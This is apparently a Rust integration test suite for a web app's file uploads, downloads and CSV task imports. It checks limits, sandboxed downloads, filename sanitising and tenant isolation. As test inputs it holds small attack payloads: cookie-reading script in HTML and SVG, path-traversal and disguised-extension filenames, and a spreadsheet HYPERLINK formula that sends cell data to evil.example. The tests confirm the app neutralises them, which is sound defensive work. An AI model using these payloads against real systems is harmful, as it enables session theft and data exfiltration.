//! Project files through HTTP: uploads (form and script), processing,
//! downloads, limits, names, tenancy; and CSV imports of tasks.

use app::model::Role;
use base64::Engine;
use reqwest::{
    StatusCode, header,
    multipart::{Form, Part},
};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::helpers::{Org, Visitor, location, platform_admin, run_sql};

/// A 1×1 PNG.
fn png() -> Vec<u8> {
    base64::engine::general_purpose::STANDARD
        .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
        .unwrap()
}

fn part(name: &str, bytes: Vec<u8>) -> Part {
    Part::bytes(bytes).file_name(name.to_owned())
}

/// Posts `form` to the project's upload route, as a browser form (no
/// JSON asked for) or a script (`json`).
async fn upload(client: &Visitor, org: &str, project: &str, form: Form, json: bool) -> reqwest::Response {
    let mut request = client.client.post(client.url(&format!("/o/{org}/projects/{project}/files"))).multipart(form);
    if json {
        request = request.header(header::ACCEPT, "application/json");
    }
    request.send().await.unwrap()
}

/// The project's files once `done` holds for them (processing runs beside
/// the test), waiting up to ten seconds.
async fn files_when(client: &Visitor, org: &Org, project: &str, done: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    for _ in 0..200 {
        let page = client.ok("list_files", &org.form(&[("project", project)])).await;
        let items = page["files"]["items"].as_array().unwrap().clone();
        if done(&items) {
            return items;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("the files did not get there: {:?}", client.ok("list_files", &org.form(&[("project", project)])).await);
}

fn named<'a>(files: &'a [Value], name: &str) -> &'a Value {
    files.iter().find(|f| f["name"] == name).unwrap_or_else(|| panic!("no {name} in {files:?}"))
}

fn all_settled(files: &[Value]) -> bool {
    !files.is_empty() && files.iter().all(|f| f["status"] == "ready" || f["status"] == "failed")
}

#[tokio::test]
async fn a_form_upload_is_stored_processed_and_downloadable_under_its_name() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Site").await;
    let text = "Meeting notes\n".repeat(1000).into_bytes();
    let form = Form::new().part("file", part("logo.png", png())).part("file", part("notes.txt", text.clone()));
    let response = upload(app, &org.slug, &project, form, false).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let session_path = location(&response);
    assert!(session_path.starts_with(&format!("/o/{}/uploads/", org.slug)), "{session_path}");
    let session_id = session_path.rsplit('/').next().unwrap();

    let session = app.ok("get_upload_session", &org.form(&[("session", session_id)])).await;
    assert_eq!(session["session"]["status"], "completed");
    assert_eq!(
        (session["session"]["files_total"].as_i64(), session["session"]["files_uploaded"].as_i64()),
        (Some(2), Some(2))
    );
    assert_eq!(session["session"]["bytes_uploaded"].as_i64(), Some((png().len() + text.len()) as i64));

    let files = files_when(app, &org, &project, all_settled).await;
    let logo = named(&files, "logo.png");
    assert_eq!(logo["status"], "ready");
    assert_eq!(logo["content_type"], "image/png");
    assert_eq!((logo["width"].as_i64(), logo["height"].as_i64()), (Some(1), Some(1)));
    assert_eq!(logo["has_thumbnail"], true);
    assert_eq!(logo["sha256"], hex::encode(Sha256::digest(png())));
    let notes = named(&files, "notes.txt");
    assert_eq!((notes["status"].as_str(), notes["content_type"].as_str()), (Some("ready"), Some("text/plain")));

    // Downloads carry the bytes, the name and the sniffed type.
    let id = notes["id"].as_str().unwrap();
    let download = app.get(&format!("/o/{}/files/{id}/download", org.slug)).await;
    assert_eq!(download.status(), 200);
    assert_eq!(download.headers()[header::CONTENT_TYPE], "text/plain");
    assert_eq!(download.headers()["x-content-type-options"], "nosniff");
    let disposition = download.headers()[header::CONTENT_DISPOSITION].to_str().unwrap().to_owned();
    assert_eq!(disposition, "attachment; filename=\"notes.txt\"; filename*=UTF-8''notes.txt");
    assert_eq!(download.bytes().await.unwrap().to_vec(), text);
    let thumbnail = app.get(&format!("/o/{}/files/{}/thumbnail", org.slug, logo["id"].as_str().unwrap())).await;
    assert_eq!(
        (thumbnail.status(), thumbnail.headers()[header::CONTENT_TYPE].to_str().unwrap()),
        (StatusCode::OK, "image/png")
    );

    // Rename, trash and restore; a trashed file is not downloadable.
    let renamed = app.ok("rename_file", &org.form(&[("file", id), ("name", "minutes.txt")])).await;
    assert_eq!(renamed["name"], "minutes.txt");
    let blank = app.call("rename_file", &org.form(&[("file", id), ("name", "  ")])).await;
    assert_eq!(blank.status(), 422);
    app.ok("trash_file", &org.form(&[("file", id), ("trash", "true")])).await;
    assert_eq!(app.get(&format!("/o/{}/files/{id}/download", org.slug)).await.status(), 404);
    let trash = app.ok("list_files", &org.form(&[("project", &project), ("trash", "true")])).await;
    assert_eq!(trash["files"]["total"], 1);
    app.ok("trash_file", &org.form(&[("file", id), ("trash", "false")])).await;
    assert_eq!(app.get(&format!("/o/{}/files/{id}/download", org.slug)).await.status(), 200);

    // The project's statistics, and deleting the ended session, which
    // trashes its files.
    let uploads = app.ok("list_upload_sessions", &org.form(&[("project", &project)])).await;
    assert_eq!(
        (uploads["stats"]["sessions"].as_i64(), uploads["stats"]["files_uploaded"].as_i64()),
        (Some(1), Some(2))
    );
    assert_eq!(app.ok("delete_upload_session", &org.form(&[("session", session_id)])).await, 2);
    let live = app.ok("list_files", &org.form(&[("project", &project)])).await;
    assert_eq!(live["files"]["total"], 0);
    let log = app.ok("list_audit_events", &org.form(&[])).await.to_string();
    for action in ["file.renamed", "file.trashed", "file.restored", "upload_session.deleted"] {
        assert!(log.contains(action), "{action}");
    }
}

#[tokio::test]
async fn the_size_limit_and_the_storage_limit_refuse_before_anything_is_stored() {
    let org = Org::new_with(|config| config.file_size_limit_mb = 1).await;
    let app = &org.app;
    let project = app.project(&org.slug, "Big").await;
    let admin = platform_admin(app).await;
    let id = app.ok("get_org_settings", &org.form(&[])).await["org"]["id"].as_str().unwrap().to_owned();
    admin.ok("set_organization_plan", &[("org", &id), ("plan", "pro"), ("storage", "2")]).await;
    let mib = 1024 * 1024;

    // Announced too large for the storage limit: refused at the start.
    let start = app
        .call(
            "start_upload_session",
            &org.form(&[("project", &project), ("files", "1"), ("bytes", &(5 * mib).to_string())]),
        )
        .await;
    assert_eq!(start.status(), 413);
    let body: Value = start.json().await.unwrap();
    assert!(body.to_string().contains("may take 2.0 MB"), "{body}");

    let session = app.ok("start_upload_session", &org.form(&[("project", &project), ("files", "4")])).await;
    let session = session.as_str().unwrap().to_owned();
    let send = |name: &'static str, size: usize, declare: bool| {
        let mut form = Form::new().text("session", session.clone());
        if declare {
            form = form.text("size", size.to_string());
        }
        form.part("file", part(name, vec![b'x'; size]))
    };
    // Declared over the file limit: refused before its bytes are read.
    let declared = upload(app, &org.slug, &project, send("declared.bin", 3 * mib / 2, true), true).await;
    assert_eq!(declared.status(), 413);
    let problem: Value = declared.json().await.unwrap();
    assert_eq!(problem["detail"], "declared.bin is larger than the 1.0 MB limit for one file.");
    // Not declared: refused as the bytes pass the limit, nothing kept.
    let streamed = upload(app, &org.slug, &project, send("streamed.bin", 3 * mib / 2, false), true).await;
    assert_eq!(streamed.status(), 413);
    // Two files fit in the 2 MiB; a third does not.
    for name in ["one.bin", "two.bin"] {
        let stored = upload(app, &org.slug, &project, send(name, 900 * 1024, true), true).await;
        assert_eq!(stored.status(), 200, "{name}: {:?}", stored.text().await);
    }
    let session_page = app.ok("get_upload_session", &org.form(&[("session", &session)])).await;
    assert_eq!(session_page["session"]["status"], "completed", "4 files counted: 2 stored, 2 refused");
    let next = app.ok("start_upload_session", &org.form(&[("project", &project), ("files", "1")])).await;
    let mut form = Form::new().text("session", next.as_str().unwrap().to_owned());
    form = form.text("size", (900 * 1024).to_string()).part("file", part("three.bin", vec![b'x'; 900 * 1024]));
    let full = upload(app, &org.slug, &project, form, true).await;
    assert_eq!(full.status(), 413);
    assert!(full.text().await.unwrap().contains("does not fit"));

    // What was refused is listed with its reason, and nothing of it is in
    // storage: only the two stored files (and their processing) are.
    let refused = session_page["session"]["failures"].as_array().unwrap();
    assert_eq!(refused.len(), 2);
    assert!(refused[1]["reason"].as_str().unwrap().contains("streamed.bin is larger"), "{refused:?}");
    let files = files_when(app, &org, &project, all_settled).await;
    assert_eq!(files.len(), 2);
    let stored = app.stored_objects("files/").await;
    assert_eq!(stored.len(), 2, "{stored:?}");
    let usage = app.ok("get_org_settings", &org.form(&[])).await;
    assert_eq!(usage["usage"]["storage_bytes"].as_i64(), Some(2 * 900 * 1024));
}

#[tokio::test]
async fn content_that_contradicts_the_name_fails_with_the_reason() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Docs").await;
    let form = Form::new()
        .part("file", part("photo.png", b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<<>>\nendobj\n".to_vec()))
        .part("file", part("real.pdf", b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec()));
    assert_eq!(upload(app, &org.slug, &project, form, false).await.status(), 303);
    let files = files_when(app, &org, &project, all_settled).await;
    let fake = named(&files, "photo.png");
    assert_eq!(fake["status"], "failed");
    assert_eq!(fake["content_type"], "application/pdf");
    assert_eq!(fake["failure"], "The name ends in .png (image/png), but the content is application/pdf.");
    assert_eq!(named(&files, "real.pdf")["status"], "ready");
}

#[tokio::test]
async fn uploaded_html_and_svg_download_as_sandboxed_bytes_never_as_a_page() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Web").await;
    let html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>".to_vec();
    // Without a prolog, an SVG reads as plain text: its name says SVG.
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>"#;
    // The same SVG with an XML prolog, under a name the bytes do not
    // contradict: read as `text/xml`, which a browser renders (and runs).
    let xml = [br#"<?xml version="1.0"?>"#.as_slice(), svg.as_slice()].concat();
    let form = Form::new()
        .part("file", part("x.html", html))
        .part("file", part("drawing.svg", svg.to_vec()))
        .part("file", part("drawing.xml", xml));
    assert_eq!(upload(app, &org.slug, &project, form, false).await.status(), 303);
    let files = files_when(app, &org, &project, |files| files.len() == 3 && all_settled(files)).await;
    for name in ["x.html", "drawing.svg", "drawing.xml"] {
        let id = named(&files, name)["id"].as_str().unwrap().to_owned();
        let download = app.get(&format!("/o/{}/files/{id}/download", org.slug)).await;
        assert_eq!(download.status(), 200, "{name}");
        let headers = download.headers();
        assert_eq!(headers[header::CONTENT_TYPE], "application/octet-stream", "{name}");
        assert_eq!(headers[header::CONTENT_SECURITY_POLICY], "sandbox; default-src 'none'", "{name}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{name}");
        assert!(headers[header::CONTENT_DISPOSITION].to_str().unwrap().starts_with("attachment;"), "{name}");
    }
}

#[tokio::test]
async fn file_names_are_never_paths_and_download_safely() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Names").await;
    let long = format!("{}.txt", "n".repeat(300));
    // Names as a browser sends them: raw UTF-8, not percent-encoded. (A
    // NUL cannot be in a header at all; it is tried through renaming.)
    let names = ["../../etc/passwd", "tab\there.txt", long.as_str(), "invoice\u{202E}fdp.exe", "..\\..\\boot.ini"];
    let mut form = Form::new().percent_encode_noop();
    for name in names {
        form = form.part("file", part(name, b"hello".to_vec()));
    }
    assert_eq!(upload(app, &org.slug, &project, form, false).await.status(), 303);
    let files = files_when(app, &org, &project, |files| files.len() == 5).await;
    let mut kept: Vec<String> = files.iter().map(|f| f["name"].as_str().unwrap().to_owned()).collect();
    kept.sort();
    let short = format!("{}.txt", "n".repeat(251));
    let mut expected =
        vec!["tabhere.txt".to_owned(), "boot.ini".to_owned(), "invoicefdp.exe".to_owned(), short, "passwd".to_owned()];
    expected.sort();
    assert_eq!(kept, expected);
    // Storage holds objects named by ids only.
    let stored = app.stored_objects("").await;
    assert_eq!(stored.iter().filter(|key| key.starts_with("files/")).count(), 5, "{stored:?}");
    for key in stored {
        let parts: Vec<&str> = key.split('/').collect();
        assert!(
            parts.len() == 3 && parts[1..].iter().all(|part| part.parse::<uuid::Uuid>().is_ok()),
            "{key}: not {{kind}}/{{org}}/{{file}}"
        );
    }
    assert!(!org.app.mail.path().join("etc").exists());
    let nul =
        app.ok("rename_file", &org.form(&[("file", files[0]["id"].as_str().unwrap()), ("name", "a\0b.txt")])).await;
    assert_eq!(nul["name"], "ab.txt");
    // The header is safe for any name.
    let rtl = named(&files, "invoicefdp.exe")["id"].as_str().unwrap().to_owned();
    let renamed = "r\u{e9}sum\u{e9} \"final\";\r\n.pdf";
    app.ok("rename_file", &org.form(&[("file", &rtl), ("name", renamed)])).await;
    let download = app.get(&format!("/o/{}/files/{rtl}/download", org.slug)).await;
    let disposition = download.headers()[header::CONTENT_DISPOSITION].to_str().unwrap().to_owned();
    assert_eq!(
        disposition,
        "attachment; filename=\"r_sum_ _final_;.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22final%22%3B.pdf"
    );
}

/// `len` bytes that do not repeat within a part: a part sent twice, in
/// the wrong order or cut short changes the checksum.
fn numbered_bytes(len: usize) -> Vec<u8> {
    (0..len).map(|n| (n as u64).wrapping_mul(2_654_435_761).to_le_bytes()[3]).collect()
}

#[tokio::test]
async fn a_file_of_several_storage_parts_is_stored_whole_and_downloads_intact() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Large").await;
    // Past two of the 5 MiB parts of an S3 multipart upload, and not a
    // multiple of them (or of the body's chunks).
    let bytes = numbered_bytes(12 * 1024 * 1024 + 12_345);
    let form = Form::new().part("file", part("large.bin", bytes.clone()));
    let response = upload(app, &org.slug, &project, form, true).await;
    assert_eq!(response.status(), 200, "{:?}", response.text().await);
    let files = files_when(app, &org, &project, all_settled).await;
    let large = named(&files, "large.bin");
    assert_eq!(large["status"], "ready", "{large}");
    assert_eq!(large["size_bytes"].as_i64(), Some(bytes.len() as i64), "{large}");
    assert_eq!(large["sha256"], hex::encode(Sha256::digest(&bytes)), "read back whole by processing");
    let id = large["id"].as_str().unwrap();
    let download = app.get(&format!("/o/{}/files/{id}/download", org.slug)).await;
    assert_eq!(download.status(), 200);
    assert!(download.bytes().await.unwrap() == bytes, "the download is the upload");
    let usage = app.ok("get_org_settings", &org.form(&[])).await;
    assert_eq!(usage["usage"]["storage_bytes"].as_i64(), Some(bytes.len() as i64));
}

#[tokio::test]
async fn deleted_files_projects_and_organizations_leave_no_stored_objects() {
    let org = Org::new().await;
    let app = &org.app;
    let org_id = app.ok("get_org_settings", &org.form(&[])).await["org"]["id"].as_str().unwrap().to_owned();
    // Kept: one file. Trashed: another. Deleted with its project: a file
    // and an import with a refused row (the CSV and its error report).
    let kept_project = app.project(&org.slug, "Kept").await;
    let form = Form::new().part("file", part("keep.png", png())).part("file", part("trash.png", png()));
    assert_eq!(upload(app, &org.slug, &kept_project, form, false).await.status(), 303);
    let kept = files_when(app, &org, &kept_project, |files| files.len() == 2 && all_settled(files)).await;
    let gone_project = app.project(&org.slug, "Gone").await;
    let form = Form::new().part("file", part("inside.png", png()));
    assert_eq!(upload(app, &org.slug, &gone_project, form, false).await.status(), 303);
    files_when(app, &org, &gone_project, all_settled).await;
    let import = upload_csv(app, &org.slug, &gone_project, "title,priority\nOne,high\n,low\n").await;
    app.ok("start_import", &org.form(&[("import", &import), ("title", "0")])).await;
    let ended = import_ended(app, &org, &import).await;
    assert_eq!(ended["import"]["rows_failed"].as_i64(), Some(1), "{ended}");
    // And another organization, with a file, deleted.
    let other = app.visitor();
    let owner = crate::helpers::Person::new("gone");
    let theirs = crate::helpers::slug(&other.signed_up(&owner).await).to_owned();
    let other_id = other.ok("get_org_settings", &[("org", &theirs)]).await["org"]["id"].as_str().unwrap().to_owned();
    let project = other.project(&theirs, "Theirs").await;
    let form = Form::new().part("file", part("theirs.png", png()));
    assert_eq!(upload(&other, &theirs, &project, form, false).await.status(), 303);

    let (keep, trash) =
        (named(&kept, "keep.png")["id"].as_str().unwrap(), named(&kept, "trash.png")["id"].as_str().unwrap());
    let everything = stored_when(app, |stored| stored.len() == 10).await;
    for kind in ["files", "thumbnails"] {
        assert_eq!(
            everything.iter().filter(|key| key.starts_with(&format!("{kind}/{org_id}/"))).count(),
            3,
            "{everything:?}"
        );
        assert_eq!(
            everything.iter().filter(|key| key.starts_with(&format!("{kind}/{other_id}/"))).count(),
            1,
            "{everything:?}"
        );
    }
    assert!(everything.contains(&format!("imports/{org_id}/{import}")), "{everything:?}");
    assert!(everything.contains(&format!("imports/{org_id}/{import}-errors")), "{everything:?}");

    app.ok("trash_file", &org.form(&[("file", trash), ("trash", "true")])).await;
    app.ok("delete_project", &org.form(&[("project", &gone_project)])).await;
    other.ok("delete_organization", &[("org", theirs.as_str()), ("confirm", owner.organization.as_str())]).await;
    // Past their 30 days in the trash, then the maintenance.
    for table in ["project_files", "projects", "organizations"] {
        run_sql(
            &app.db,
            &format!("UPDATE {table} SET deleted_at = '2020-01-01T00:00:00.000000Z' WHERE deleted_at IS NOT NULL"),
        )
        .await;
    }
    run_maintenance(app).await;
    let left = stored_when(app, |stored| stored.len() == 2).await;
    assert_eq!(left, [format!("files/{org_id}/{keep}"), format!("thumbnails/{org_id}/{keep}")]);
}

/// Everything the app has stored, once `done` holds for it (processing
/// runs beside the test), waiting up to twenty seconds.
async fn stored_when(app: &crate::helpers::TestApp, done: impl Fn(&[String]) -> bool) -> Vec<String> {
    for _ in 0..400 {
        let stored = app.stored_objects("").await;
        if done(&stored) {
            return stored;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("storage did not get there: {:?}", app.stored_objects("").await);
}

/// Queues a maintenance run now (the hourly one ran at start-up).
async fn run_maintenance(app: &crate::helpers::TestApp) {
    use app::server::{
        db::{
            Timestamp,
            jobs::{NewJob, enqueue},
        },
        jobs::Job,
    };
    let job = NewJob {
        org: None,
        kind: Job::Maintenance.kind(),
        payload: serde_json::to_string(&Job::Maintenance).unwrap(),
        max_attempts: 1,
        run_at: Timestamp::now(),
        unique_key: Some(format!("maintenance:test:{}", uuid::Uuid::new_v4())),
    };
    enqueue(&app.db, job).await.unwrap().expect("a new maintenance job");
}

#[tokio::test]
async fn another_organizations_files_sessions_and_jobs_answer_404_and_guests_only_read() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Mine").await;
    let form = Form::new().part("file", part("logo.png", png()));
    let session_path = location(&upload(app, &org.slug, &project, form, false).await);
    let session = session_path.rsplit('/').next().unwrap().to_owned();
    let files = files_when(app, &org, &project, all_settled).await;
    let file = files[0]["id"].as_str().unwrap().to_owned();
    let jobs = app.ok("list_org_jobs", &org.form(&[])).await;
    let job = jobs[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(jobs[0]["kind"], "process_file");

    // Another organization's owner, signed in to their own.
    let other = app.visitor();
    let path = other.signed_up(&crate::helpers::Person::new("oth")).await;
    let theirs = crate::helpers::slug(&path).to_owned();
    for path in [
        format!("/o/{theirs}/files/{file}/download"),
        format!("/o/{theirs}/files/{file}/thumbnail"),
        format!("/o/{theirs}/uploads/{session}/events"),
        format!("/o/{theirs}/jobs/{job}/events"),
        format!("/o/{}/files/{file}/download", org.slug),
    ] {
        assert_eq!(other.get(&path).await.status(), 404, "{path}");
    }
    let with = |rest: &[(&'static str, &str)]| {
        let mut form = vec![("org", theirs.as_str())];
        form.extend_from_slice(rest);
        form.into_iter().map(|(k, v)| (k, v.to_owned())).collect::<Vec<_>>()
    };
    for (name, form) in [
        ("rename_file", with(&[("file", &file), ("name", "x")])),
        ("trash_file", with(&[("file", &file), ("trash", "true")])),
        ("get_upload_session", with(&[("session", &session)])),
        ("delete_upload_session", with(&[("session", &session)])),
        ("cancel_org_job", with(&[("job", &job)])),
        ("list_files", with(&[("project", &project)])),
    ] {
        let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
        assert_eq!(other.call(name, &form).await.status(), 404, "{name}");
    }
    let form = Form::new().part("file", part("x.txt", b"x".to_vec()));
    assert_eq!(upload(&other, &theirs, &project, form, true).await.status(), 404);
    // Signed out: 401, like the pages.
    assert_eq!(app.visitor().get(&format!("/o/{}/files/{file}/download", org.slug)).await.status(), 401);

    // A Guest reads and downloads, and may not upload or change.
    let (guest, _, _) = org.person("gst", Role::Guest).await;
    assert_eq!(guest.call("list_files", &org.form(&[("project", &project)])).await.status(), 200);
    assert_eq!(guest.get(&format!("/o/{}/files/{file}/download", org.slug)).await.status(), 200);
    let form = Form::new().part("file", part("x.txt", b"x".to_vec()));
    assert_eq!(upload(&guest, &org.slug, &project, form, true).await.status(), 403);
    assert_eq!(guest.call("trash_file", &org.form(&[("file", &file), ("trash", "true")])).await.status(), 403);
}

/// Uploads `csv` for import into `project`; the import's id.
pub async fn upload_csv(client: &Visitor, org: &str, project: &str, csv: &str) -> String {
    upload_csv_bytes(client, org, project, csv.as_bytes().to_vec()).await
}

/// Uploads the bytes `csv` for import into `project`; the import's id.
pub async fn upload_csv_bytes(client: &Visitor, org: &str, project: &str, csv: Vec<u8>) -> String {
    let form = Form::new().part("file", part("tasks.csv", csv));
    let response = client
        .client
        .post(client.url(&format!("/o/{org}/projects/{project}/imports")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    location(&response).rsplit('/').next().unwrap().to_owned()
}

/// The import once it has ended.
pub async fn import_ended(client: &Visitor, org: &Org, import: &str) -> Value {
    for _ in 0..400 {
        let page = client.ok("get_import", &org.form(&[("import", import)])).await;
        // The import's last write and its job's completion are two
        // transactions: the job may still read `running` for a moment.
        let job_settled =
            page["job"].is_null() || !["queued", "running"].contains(&page["job"]["status"].as_str().unwrap());
        if !["draft", "importing"].contains(&page["import"]["status"].as_str().unwrap()) && job_settled {
            return page;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("the import did not end");
}

/// The mapping fields of a guessed mapping, for `start_import`.
fn mapping_form(page: &Value) -> Vec<(String, String)> {
    page["mapping"]
        .as_array()
        .unwrap()
        .iter()
        .map(|pair| (pair[0].as_str().unwrap().to_owned(), pair[1].to_string()))
        .collect()
}

#[tokio::test]
async fn an_export_imports_as_it_is_and_bad_rows_are_reported_with_their_lines() {
    let org = Org::new().await;
    let app = &org.app;
    let source = app.project(&org.slug, "Source").await;
    app.task(&org.slug, &source, &[("title", "=SUM(A1)"), ("priority", "high"), ("due_on", "2026-12-01")]).await;
    let done = app.task(&org.slug, &source, &[("title", "Shipped"), ("description", "It went out")]).await;
    app.ok("set_task_done", &org.form(&[("task", done["id"].as_str().unwrap()), ("done", "true")])).await;
    let export =
        app.get(&format!("/o/{}/projects/{source}/tasks.csv?status=all", org.slug)).await.text().await.unwrap();

    let target = app.project(&org.slug, "Target").await;
    let import = upload_csv(app, &org.slug, &target, &export).await;
    let page = app.ok("get_import", &org.form(&[("import", &import)])).await;
    assert_eq!(page["import"]["status"], "draft");
    let mapping = mapping_form(&page);
    let mut form: Vec<(&str, &str)> = org.form(&[("import", &import)]);
    form.extend(mapping.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    let preview = app.ok("preview_import", &form).await;
    assert!(preview.as_array().unwrap().iter().all(|row| row["errors"].as_array().unwrap().is_empty()), "{preview}");
    app.ok("start_import", &form).await;
    let ended = import_ended(app, &org, &import).await;
    assert_eq!(ended["import"]["status"], "succeeded");
    assert_eq!(
        (ended["import"]["rows_imported"].as_i64(), ended["import"]["rows_failed"].as_i64()),
        (Some(2), Some(0))
    );
    // The titles came back as they were (the export's formula guard is
    // taken off), with priority, date and completion.
    let mut titles = app.titles(&org.slug, &target, &[("status", "all")]).await;
    titles.sort();
    assert_eq!(titles, ["=SUM(A1)", "Shipped"]);
    assert_eq!(app.titles(&org.slug, &target, &[("status", "done")]).await, ["Shipped"]);
    // Started once only.
    assert_eq!(app.call("start_import", &form).await.status(), 409);

    // Another file, with its own column names and three bad rows.
    let mut csv = String::from("Name,When,Urgency\n");
    for n in 1..=20 {
        csv.push_str(&format!("Task {n},2026-12-{:02},low\n", n % 28 + 1));
    }
    csv.push_str(",2026-12-01,low\nBad date,2026-13-01,low\nBad priority,2026-12-01,whenever\n");
    let import = upload_csv(app, &org.slug, &target, &csv).await;
    let page = app.ok("get_import", &org.form(&[("import", &import)])).await;
    assert_eq!(page["mapping"], serde_json::json!([]), "nothing to guess from");
    let no_title = app.call("start_import", &org.form(&[("import", &import)])).await;
    assert_eq!(no_title.status(), 422);
    let form = org.form(&[("import", &import), ("title", "0"), ("due_on", "1"), ("priority", "2")]);
    let preview = app.ok("preview_import", &form).await;
    assert_eq!(preview.as_array().unwrap().len(), 10);
    app.ok("start_import", &form).await;
    let ended = import_ended(app, &org, &import).await;
    assert_eq!(
        (ended["import"]["rows_imported"].as_i64(), ended["import"]["rows_failed"].as_i64()),
        (Some(20), Some(3))
    );
    assert_eq!(ended["job"]["status"], "succeeded");
    let report = app.get(&format!("/o/{}/imports/{import}/errors.csv", org.slug)).await;
    assert_eq!(report.status(), 200);
    let report = report.text().await.unwrap();
    let lines: Vec<&str> = report.lines().collect();
    assert_eq!(lines[0], "line,error,Name,When,Urgency");
    assert!(lines[1].starts_with("22,Title:"), "{report}");
    assert!(lines[2].starts_with("23,Due date"), "{report}");
    assert!(lines[3].starts_with("24,\"Priority"), "{report}");
    // Refused uploads go back to the form with a reason.
    let form = Form::new().part("file", part("empty.csv", Vec::new()));
    let refused = app
        .client
        .post(app.url(&format!("/o/{}/projects/{target}/imports", org.slug)))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert!(location(&refused).ends_with("/import?error=no_file"));
}

#[tokio::test]
async fn the_refused_rows_file_neutralizes_formulas_in_the_uploaded_header_too() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Formulas").await;
    let csv = "Name,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&B3,\"\"Open\"\")\",@SUM(1)\r\n\
               ,+cmd,x\r\nGood,y,z\r\n";
    let import = upload_csv(app, &org.slug, &project, csv).await;
    let form = org.form(&[("import", &import), ("title", "0")]);
    app.ok("start_import", &form).await;
    let ended = import_ended(app, &org, &import).await;
    assert_eq!(
        (ended["import"]["rows_imported"].as_i64(), ended["import"]["rows_failed"].as_i64()),
        (Some(1), Some(1))
    );
    let report = app.get(&format!("/o/{}/imports/{import}/errors.csv", org.slug)).await.text().await.unwrap();
    let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(report.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        records[0],
        ["line", "error", "Name", "'=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Open\")", "'@SUM(1)"],
        "{report}"
    );
    // (Its line number is left to the import's own tests.)
    assert_eq!(records[1][2..], ["", "'+cmd", "x"]);
}

#[tokio::test]
async fn a_cancelled_import_stops_between_batches_with_nothing_half_imported() {
    let org = Org::new().await;
    let app = &org.app;
    let project = app.project(&org.slug, "Many").await;
    let mut csv = String::from("title\n");
    for n in 0..3000 {
        csv.push_str(&format!("Task {n}\n"));
    }
    let import = upload_csv(app, &org.slug, &project, &csv).await;
    let job = app.ok("start_import", &org.form(&[("import", &import), ("title", "0")])).await;
    let cancelled = app.call("cancel_org_job", &org.form(&[("job", job.as_str().unwrap())])).await;
    let ended = import_ended(app, &org, &import).await;
    let imported = ended["import"]["rows_imported"].as_i64().unwrap();
    if cancelled.status() == 200 {
        assert_eq!(ended["import"]["status"], "cancelled");
        assert_eq!(imported % 200, 0, "whole batches only: {imported}");
    } else {
        // It had finished before the cancel arrived.
        assert_eq!(imported, 3000);
    }
    let listed = app.list_tasks(&org.slug, &project, &[("status", "all")]).await.json::<Value>().await.unwrap();
    assert_eq!(listed["total"].as_i64(), Some(imported), "{listed}");
}
